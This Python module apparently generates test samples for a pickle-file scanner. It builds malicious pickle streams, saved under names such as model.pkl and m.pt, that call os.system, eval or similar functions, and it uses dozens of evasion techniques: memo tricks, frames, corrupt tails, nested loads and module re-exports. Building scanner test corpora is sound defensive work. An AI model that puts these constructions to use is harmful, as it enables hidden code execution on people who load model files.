"""Tricks of the pickle stream: how a call is written so that a reader that is not the unpickler does not see it.

Each trick is a function of a payload (module, name, argument) that returns a whole file; each is tried with three payloads, of which
one is well known, one is an evaluator and one stands in few lists.
"""

from __future__ import annotations

import base64
import struct
from typing import TYPE_CHECKING

from corpus.assemble import Build, Call, Name, New, Raw, code, data, dump, head, number, text
from corpus.sample import EXPRESSION, SHELL, Sample, file

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    Trick = Callable[[str, str, str], bytes]

PAYLOADS = (("posix", "system", SHELL), ("builtins", "eval", EXPRESSION), ("_osx_support", "_read_output", SHELL))
FILLER = b"N0" * 600_000


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def line(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def quoted(value: str) -> bytes:
    return b"S" + repr(value).encode() + b"\n"


def reduce(module: str, name: str, argument: str) -> bytes:
    return line(module, name) + b"(" + quoted(argument) + b"tR"


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def stack(module: bytes, name: bytes, argument: str, tail: bytes = b"\x85R.") -> bytes:
    return b"\x80\x04" + module + name + b"\x93" + text(argument) + tail


INSTRUCTIONS: dict[str, Trick] = {
    "reduce-0": lambda m, n, a: reduce(m, n, a) + b".",
    "reduce-1": lambda m, n, a: line(m, n) + b"(X" + struct.pack("<I", len(a)) + a.encode() + b"tR.",
    "reduce-2-tuple1": lambda m, n, a: b"\x80\x02" + line(m, n) + text(a, 2) + b"\x85R.",
    "inst": lambda m, n, a: b"(" + quoted(a) + f"i{m}\n{n}\n.".encode(),
    "inst-in-protocol-5": lambda m, n, a: b"\x80\x05(" + text(a) + f"i{m}\n{n}\n.".encode(),
    "obj": lambda m, n, a: b"(" + line(m, n) + quoted(a) + b"o.",
    "obj-popped": lambda m, n, a: b"\x80\x04(" + line(m, n) + text(a) + b"o0N.",
    "newobj-of-a-class": lambda m, n, a: b"\x80\x02" + code(New(Name("subprocess", "Popen")), 2) + b"0" + reduce(m, n, a) + b".",
    "newobj-ex": lambda m, n, a: b"\x80\x04" + text("functools") + text("partial") + b"\x93" + code(Name(m, n)) + text(a) + b"\x86}\x92)R.",
    "stack-global": lambda m, n, a: stack(text(m), text(n), a),
    "stack-global-memo": lambda m, n, a: b"\x80\x04" + text(m) + b"\x94" + text(n) + b"\x9400h\x00h\x01\x93" + text(a) + b"\x85R.",
    "stack-global-put": lambda m, n, a: b"\x80\x04" + text(m) + b"q\x05" + text(n) + b"q\x0900h\x05h\x09\x93" + text(a) + b"\x85R.",
    "stack-global-long-put": lambda m, n, a: b"\x80\x04" + text(m) + b"r\x00\x00\x01\x00" + text(n) + b"r\x01\x00\x01\x0000j\x00\x00\x01\x00j\x01\x00\x01\x00\x93" + text(a) + b"\x85R.",
    "stack-global-text-get": lambda m, n, a: b"\x80\x04" + text(m) + b"p77\n" + text(n) + b"p78\n00g77\ng78\n\x93" + text(a) + b"\x85R.",
    "stack-global-unicode8": lambda m, n, a: stack(b"\x8d" + struct.pack("<Q", len(m)) + m.encode(), b"\x8d" + struct.pack("<Q", len(n)) + n.encode(), a),
    "stack-global-escapes": lambda m, n, a: stack(b"V" + "".join(f"\\u{ord(c):04x}" for c in m).encode() + b"\n", b"V" + "".join(f"\\u{ord(c):04x}" for c in n).encode() + b"\n", a),
    "stack-global-string": lambda m, n, a: stack(quoted(m), quoted(n), a),
    "stack-global-hex-string": lambda m, n, a: stack(b"S'" + "".join(f"\\x{ord(c):02x}" for c in m).encode() + b"'\n", quoted(n), a),
    "stack-global-short-binstring": lambda m, n, a: stack(b"U" + bytes([len(m)]) + m.encode(), b"U" + bytes([len(n)]) + n.encode(), a),
    "stack-global-binstring": lambda m, n, a: stack(b"T" + struct.pack("<I", len(m)) + m.encode(), b"T" + struct.pack("<I", len(n)) + n.encode(), a),
    "stack-global-dup": lambda m, n, a: b"\x80\x04" + text(m) + text(n) + b"20\x93" + text(a) + b"\x85R.",
    "stack-global-noise-between": lambda m, n, a: b"\x80\x04" + text(m) + b"(K\x01K\x021" + text(n) + b"N0(]e0" [:2] + b"\x93" + text(a) + b"\x85R.",
    "stack-global-mixed-text": lambda m, n, a: stack(text(m), quoted(n), a),
    "memo-overwritten": lambda m, n, a: b"\x80\x04" + text("collections") + b"q\x000" + text(m) + b"q\x000h\x00" + text(n) + b"\x93" + text(a) + b"\x85R.",
    "memoize-after-put": lambda m, n, a: b"\x80\x04" + text("datetime") + b"q\x000" + text(m) + b"\x940h\x01" + text(n) + b"\x93" + text(a) + b"\x85R.",
    "memo-holds-the-function": lambda m, n, a: b"\x80\x02" + line(m, n) + b"q\x07" + b"0h\x07" + text(a, 2) + b"\x85R.",
    "memo-swaps-the-function": lambda m, n, a: b"\x80\x02" + line("datetime", "date") + b"q\x000" + line(m, n) + b"q\x000h\x00" + text(a, 2) + b"\x85R.",
    "duplicate-key-memo": lambda m, n, a: b"\x80\x04" + text(m) + b"p0\n" + text("x") + b"p00\n0" + text(n) + b"\x93" + text(a) + b"\x85R.",
}  # fmt: skip

STACK: dict[str, Trick] = {
    "pop-after": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"0N.",
    "pop-mark-after": lambda m, n, a: b"\x80\x02(" + reduce(m, n, a) + b"1N.",
    "pop-of-mark": lambda m, n, a: b"\x80\x02(0" + reduce(m, n, a) + b".",
    "in-a-list": lambda m, n, a: b"\x80\x02](" + reduce(m, n, a) + b"e.",
    "in-a-dict-value": lambda m, n, a: b"\x80\x02}" + text("a", 2) + reduce(m, n, a) + b"s.",
    "in-a-dict-key": lambda m, n, a: b"\x80\x02}(" + reduce(m, n, a) + b"Nu.",
    "in-a-set": lambda m, n, a: b"\x80\x04\x8f(" + reduce(m, n, a) + b"\x90.",
    "in-a-frozenset": lambda m, n, a: b"\x80\x04(" + reduce(m, n, a) + b"\x91.",
    "as-an-argument": lambda m, n, a: b"\x80\x02" + line("datetime", "timedelta") + b"(" + reduce(m, n, a) + b"tR.",
    "as-a-state": lambda m, n, a: b"\x80\x02" + code(New(Name("argparse", "Namespace")), 2) + b"}" + text("x", 2) + reduce(m, n, a) + b"sb.",
    "as-a-persistent-id": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"Q.",
    "between-marks": lambda m, n, a: b"\x80\x02(((" + reduce(m, n, a) + b"ttt.",
    "after-a-cycle": lambda m, n, a: b"\x80\x02]q\x00h\x00a" + reduce(m, n, a) + b".",
    "inside-a-cycle": lambda m, n, a: b"\x80\x02]q\x00(h\x00" + reduce(m, n, a) + b"e.",
    "cyclic-tuple-and-reduce": lambda m, n, a: b"\x80\x02](h" [:2] + b"]q\x00h\x00\x85q\x01a" + b"0" + reduce(m, n, a) + b"e.",
    "deep": lambda m, n, a: b"\x80\x02" + b"(" * 5000 + reduce(m, n, a) + b"l" * 5000 + b".",
    "late": lambda m, n, a: b"\x80\x02" + FILLER + reduce(m, n, a) + b".",
    "many-safe-calls-before": lambda m, n, a: b"\x80\x02" + b"cdatetime\ndate\n(K\x01K\x01K\x01tR0" * 20_000 + reduce(m, n, a) + b".",
    "arguments-from-dup": lambda m, n, a: b"\x80\x02" + text(a, 2) + b"2\x86" + b"q\x000" + line(m, n) + text(a, 2) + b"\x85R.",
    "function-from-a-tuple": lambda m, n, a: b"\x80\x02" + line(m, n) + b"q\x01\x850h\x01" + text(a, 2) + b"\x85R.",
    "after-appends": lambda m, n, a: b"\x80\x02](K\x01K\x02e0" + reduce(m, n, a) + b".",
}  # fmt: skip

STATE: dict[str, Trick] = {
    "partial-by-state": lambda m, n, a: dump(Call(Build(Call("functools", "partial", (Name("builtins", "print"),)), (Name(m, n), (a,), {}, {})), "")),
    "partial-by-newobj": lambda m, n, a: dump(Call(Build(New(Name("functools", "partial"), (Name("builtins", "len"),)), (Name(m, n), (a,), {}, {})), "")),
    "build-after-reduce": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"}b.",
    "state-of-a-module": lambda m, n, a: b"\x80\x04" + code(Build(Call("importlib", "import_module", ("string",)), {"capwords": Name(m, n)})) + b"0" + code(Call("string", "capwords", (a,))) + b".",
    "state-of-a-class": lambda m, n, a: b"\x80\x04" + code(Build(Name("argparse", "Namespace"), (None, {"__setstate__": Name(m, n)}))) + b"0" + code(Build(New(Name("argparse", "Namespace")), a)) + b".",
    "setstate-in-the-instance": lambda m, n, a: dump(Build(Build(New(Name("argparse", "Namespace")), {"__setstate__": Name(m, n)}), a)),
    "append-in-the-instance": lambda m, n, a: b"\x80\x04" + code(Build(New(Name("argparse", "Namespace")), {"append": Name(m, n)})) + text(a) + b"a.",
    "extend-in-the-instance": lambda m, n, a: b"\x80\x04" + code(Build(New(Name("argparse", "Namespace")), {"append": Name(m, n)})) + b"(" + text(a) + b"e.",
    "add-in-the-instance": lambda m, n, a: b"\x80\x04" + code(Build(New(Name("argparse", "Namespace")), {"add": Name(m, n)})) + b"(" + text(a) + b"\x90.",
    "sys-modules-replaced": lambda m, n, a: b"\x80\x04" + code(Name("sys", "modules")) + text("datetime") + code(Call("importlib", "import_module", (m,))) + b"s0" + code(Call("datetime", n, (a,))) + b".",
    "setitem-on-globals": lambda m, n, a: b"\x80\x04" + code(Call("builtins", "globals")) + text("x") + code(Name(m, n)) + b"s0" + code(Call(m, n, (a,))) + b".",
    "defaultdict-factory": lambda m, n, a: dump(Call("collections", "defaultdict.__missing__", (Call("collections", "defaultdict", (Call("functools", "partial", (Name(m, n), a)),)), 1))),
    "extension-1": lambda m, n, a: b"\x80\x04" + code(Call("copyreg", "add_extension", (m, n, 7))) + b"0\x82\x07" + text(a) + b"\x85R.",
    "extension-2": lambda m, n, a: b"\x80\x04" + code(Call("copyreg", "add_extension", (m, n, 700))) + b"0\x83\xbc\x02" + text(a) + b"\x85R.",
    "extension-4": lambda m, n, a: b"\x80\x04" + code(Call("copyreg", "add_extension", (m, n, 1 << 24))) + b"0\x84\x00\x00\x00\x01" + text(a) + b"\x85R.",
    "map-consumed-by-deque": lambda m, n, a: dump(Call("collections", "deque", (Call("builtins", "map", (Name(m, n), [a])),))),
    "starmap-consumed-by-frozenset": lambda m, n, a: dump(Call("builtins", "frozenset", (Call("itertools", "starmap", (Name(m, n), [(a,)])),))),
    "map-consumed-by-ordered-dict": lambda m, n, a: dump(Call("collections", "Counter", (Call("builtins", "map", (Name(m, n), [a])),))),
    "reconstructor": lambda m, n, a: b"\x80\x02" + code(Call("copyreg", "_reconstructor", (Name("argparse", "Namespace"), Name("builtins", "object"), None)), 2) + b"0" + reduce(m, n, a) + b".",
    "getattr-chain": lambda m, n, a: dump(Call(Call("builtins", "getattr", (Call("builtins", "__import__", (m,)), n)), "", (a,))),
    "methodcaller-on-a-module": lambda m, n, a: dump(Call(Call("operator", "methodcaller", (n, a)), "", (Call("importlib", "import_module", (m,)),))),
    "attrgetter-on-a-module": lambda m, n, a: dump(Call(Call(Call("operator", "attrgetter", (n,)), "", (Call("importlib", "import_module", (m,)),)), "", (a,))),
    "resolve-name": lambda m, n, a: dump(Call(Call("pkgutil", "resolve_name", (f"{m}:{n}",)), "", (a,))),
    "pydoc-locate": lambda m, n, a: dump(Call(Call("pydoc", "locate", (f"{m}.{n}",)), "", (a,))),
    "unpickler-of-the-standard-library": lambda m, n, a: dump(Call("pickle", "loads", (reduce(m, n, a) + b".",))),
    "marshalled-code": lambda m, n, a: dump(Call(Call("types", "FunctionType", (Call("marshal", "loads", (_marshalled(m, n, a),)), {})), "")),
}  # fmt: skip


def _marshalled(module: str, name: str, argument: str) -> bytes:
    import marshal  # noqa: PLC0415 - dumps only

    return marshal.dumps(compile(f"__import__({module!r}).{name}({argument!r})", "x", "eval"))


TAILS: dict[str, Trick] = {
    "no-stop": lambda m, n, a: b"\x80\x02" + reduce(m, n, a),
    "unknown-opcode": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"\xff.",
    "not-utf8": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"X\x02\x00\x00\x00\xff\xfe.",
    "length-beyond-the-end": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"B\xff\xff\xff\x7f.",
    "length-of-exabytes": lambda m, n, a: b"\x80\x04" + reduce(m, n, a) + b"\x8e" + b"\xff" * 7 + b"\x7f.",
    "negative-length": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"T\xff\xff\xff\xff.",
    "underflow": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"0000.",
    "memo-missing": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"h\xee.",
    "mark-missing": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"t.",
    "bad-integer": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"Iabc\n.",
    "bad-float": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"Fabc\n.",
    "bad-string": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"Sabc\n.",
    "bad-protocol": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"\x80\xff.",
    "unhashable-key": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"0}]Ns.",
    "reduce-of-a-number": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"K\x01)R.",
    "build-of-a-number": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"0K\x01}b.",
    "import-that-fails": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"cno_such_module\nx\n.",
    "extension-unknown": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"\x82\x09.",
    "persistent-unasked": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"Pabc\n.",
    "buffer-unasked": lambda m, n, a: b"\x80\x05" + reduce(m, n, a) + b"\x97.",
    "trailing-garbage": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b".\x00\x00\xff\xff garbage",
    "cut-in-an-argument": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"X\x10",
    "newline-missing": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"cos",
    "stop-on-an-empty-stack": lambda m, n, a: b"\x80\x02" + reduce(m, n, a) + b"0.",
}  # fmt: skip

FRAMES: dict[str, Trick] = {
    "in-a-frame": lambda m, n, a: b"\x80\x04" + frame(reduce(m, n, a) + b"."),
    "in-two-frames": lambda m, n, a: b"\x80\x04" + frame(b"N0") + frame(reduce(m, n, a) + b"."),
    "frame-ends-early": lambda m, n, a: b"\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00N0" + reduce(m, n, a) + b".",
    "frame-too-long": lambda m, n, a: b"\x80\x04" + reduce(m, n, a) + b"\x95\xff\x00\x00\x00\x00\x00\x00\x00.",
    "frame-in-protocol-2": lambda m, n, a: b"\x80\x02" + frame(reduce(m, n, a) + b"."),
    "frame-of-nothing": lambda m, n, a: b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00" + reduce(m, n, a) + b".",
    "after-the-frame": lambda m, n, a: b"\x80\x04" + frame(b"N0") + reduce(m, n, a) + b".",
    "protocol-twice": lambda m, n, a: b"\x80\x02\x80\x04\x80\x00" + reduce(m, n, a) + b".",
    "protocol-missing": lambda m, n, a: stack(text(m), text(n), a)[2:],
    "protocol-5-instructions-in-2": lambda m, n, a: b"\x80\x02" + stack(text(m), text(n), a)[2:],
}  # fmt: skip

STREAMS: dict[str, Trick] = {
    "second-stream": lambda m, n, a: dump({"a": 1}) + b"\x80\x02" + reduce(m, n, a) + b".",
    "third-stream": lambda m, n, a: dump({"a": 1}) * 2 + b"\x80\x02" + reduce(m, n, a) + b".",
    "hundredth-stream": lambda m, n, a: dump([1]) * 99 + reduce(m, n, a) + b".",
    "second-stream-without-a-head": lambda m, n, a: dump([1]) + reduce(m, n, a) + b".",
    "second-stream-after-megabytes": lambda m, n, a: dump(b"\0" * 3_000_000) + reduce(m, n, a) + b".",
    "first-of-two": lambda m, n, a: reduce(m, n, a) + b"." + dump({"a": 1}),
}  # fmt: skip

OFFSETS: dict[str, tuple[int, Trick]] = {
    "after-a-newline": (1, lambda m, n, a: b"\n\x80\x04" + frame(reduce(m, n, a) + b".")),
    "after-zeros": (512, lambda m, n, a: b"\0" * 512 + b"\x80\x02" + reduce(m, n, a) + b"."),
    "after-a-header-of-its-own": (16, lambda m, n, a: b"MODEL\x01\0\0" + struct.pack("<Q", 99) + b"\x80\x04" + reduce(m, n, a) + b"."),
}  # fmt: skip

NESTED: dict[str, Trick] = {
    "torch-load-from-bytes": lambda m, n, a: dump(
        Call("torch.storage", "_load_from_bytes", (b"\x80\x02" + reduce(m, n, a) + b".",))
    ),
    "numpy-scalar-of-objects": lambda m, n, a: dump(
        Call("numpy.core.multiarray", "scalar", (_objects(), b"\x80\x02" + reduce(m, n, a) + b"."))
    ),
    "numpy-scalar-new-name": lambda m, n, a: dump(
        Call("numpy._core.multiarray", "scalar", (_objects(), b"\x80\x02" + reduce(m, n, a) + b"."))
    ),
    "base64-and-loads": lambda m, n, a: dump(
        Call("pickle", "loads", (Call("base64", "b64decode", (base64.b64encode(reduce(m, n, a) + b".").decode(),)),))
    ),
    "hex-and-loads": lambda m, n, a: dump(
        Call("pickle", "loads", (Call("binascii", "unhexlify", ((reduce(m, n, a) + b".").hex(),)),))
    ),
    "codec-and-loads": lambda m, n, a: dump(
        Call("pickle", "loads", (Call("_codecs", "encode", ((reduce(m, n, a) + b".").decode(), "latin1")),))
    ),
    "zlib-and-loads": lambda m, n, a: dump(
        Call("pickle", "loads", (Call("zlib", "decompress", (__import__("zlib").compress(reduce(m, n, a) + b"."),)),))
    ),
    "loads-of-bytesio": lambda m, n, a: dump(
        Call("pickle", "load", (Call("io", "BytesIO", (reduce(m, n, a) + b".",)),))
    ),
    "joblib-load-of-bytesio": lambda m, n, a: dump(
        Call("joblib", "load", (Call("_io", "BytesIO", (reduce(m, n, a) + b".",)),))
    ),
    "pandas-read-of-bytesio": lambda m, n, a: dump(
        Call("pandas", "read_pickle", (Call("_io", "BytesIO", (reduce(m, n, a) + b".",)),))
    ),
    "cloudpickle-loads": lambda m, n, a: dump(Call("cloudpickle", "loads", (reduce(m, n, a) + b".",))),
    "two-deep": lambda m, n, a: dump(
        Call("pickle", "loads", (dump(Call("_pickle", "loads", (reduce(m, n, a) + b".",))),))
    ),
}


def _objects() -> Build:
    made = Call("numpy", "dtype", ("O8", False, True))
    return Build(made, (3, "|", None, None, None, -1, -1, 63))


FAMILIES: tuple[tuple[str, dict[str, Trick], str], ...] = (
    ("stream-instruction", INSTRUCTIONS, "pickle"),
    ("stream-stack", STACK, "pickle"),
    ("stream-state", STATE, "pickle"),
    ("stream-broken-tail", TAILS, "pickle"),
    ("stream-frame", FRAMES, "pickle"),
    ("stream-several", STREAMS, "streams"),
    ("stream-nested", NESTED, "pickle"),
)


def samples() -> Iterator[Sample]:
    """Yield each trick with each payload."""
    for group, tricks, loader in FAMILIES:
        for name, trick in tricks.items():
            for place, payload in enumerate(PAYLOADS):
                yield file(
                    group, f"{name}-{place}", ("model.pkl", "m.pt", "data.bin")[place], trick(*payload), loader=loader
                )
    for name, (offset, trick) in OFFSETS.items():
        for place, payload in enumerate(PAYLOADS[:2]):
            yield file("stream-offset", f"{name}-{place}", "model.bin", trick(*payload), loader=f"offset:{offset}")
    yield from dotted()


REEXPORTS = (
    ("torch", "os.system"), ("torch.serialization", "os.system"), ("torch.hub", "os.system"), ("torch._utils", "sys.modules"),
    ("joblib.numpy_pickle", "os.system"), ("joblib.memory", "os.system"), ("sklearn.utils", "os.system"), ("numpy.lib.npyio", "os.system"),
    ("pandas.io.common", "os.system"), ("logging", "os.system"), ("shutil", "os.system"), ("pathlib", "os.system"),
    ("collections", "_sys.modules"), ("random", "_os.system"), ("tempfile", "_os.system"), ("datetime", "sys.modules"),
    ("sklearn.datasets._base", "os.system"), ("numpy._core.memmap", "os.system"), ("torch.nn.modules.module", "os.system"),
    ("torch._tensor", "os.system"), ("scipy.io._fortran", "np.load"), ("decimal", "_sys.modules"), ("uuid", "os.system"),
    ("sklearn.externals.array_api_compat", "os.system"), ("argparse", "_sys.modules"), ("statistics", "sys.modules"),
    ("glob", "os.system"), ("zipfile", "os.system"), ("argparse", "_os.system"), ("fnmatch", "os.system"), ("enum", "sys.modules"),
)  # fmt: skip


def dotted() -> Iterator[Sample]:
    """Yield calls that are reached through modules which import them (GHSA-5j3x-jp52-966f and its kin)."""
    for module, name in REEXPORTS:
        stream = dump(Call(module, name, (SHELL,)))
        yield file("stream-reexport", f"{module}.{name}", "model.pkl", stream, "GHSA-5j3x-jp52-966f", loader="pickle")
    through = (
        "Namespace.__init__.__globals__",
        "Namespace.__class__",
        "Namespace.__subclasshook__",
        "_sys.modules.get",
    )
    for name in through:
        stream = dump(Call("argparse", name, ("os",)))
        yield file("stream-reexport", f"argparse.{name}", "model.pkl", stream, loader="pickle")


_ = (Raw, data, head, number)  # part of the vocabulary of tricks
